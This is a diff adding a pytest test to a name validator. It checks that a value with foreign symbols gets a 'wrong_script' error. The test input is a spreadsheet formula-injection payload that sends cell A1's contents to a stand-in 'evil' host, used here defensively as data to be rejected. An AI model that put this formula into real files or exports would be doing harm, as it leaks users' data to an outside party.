@@ -156,6 +156,13 @@ def test_a_question_mark_means_letters_lost():
     assert raised.value.code == "letters_lost"
 
 
+def test_a_question_mark_among_other_foreign_characters_names_them_not_lost_letters():
+    with pytest.raises(ValidationError) as raised:
+        NameValidator("latin")('=HYPERLINK("http://evil/?"&A1)')
+    assert raised.value.code == "wrong_script"
+    assert "=" in raised.value.messages[0] and "&" in raised.value.messages[0]
+
+
 def test_a_script_column_of_question_marks_holds_no_letter_of_it():
     with pytest.raises(ValidationError) as raised:
         NameValidator("cyrillic")("??????")
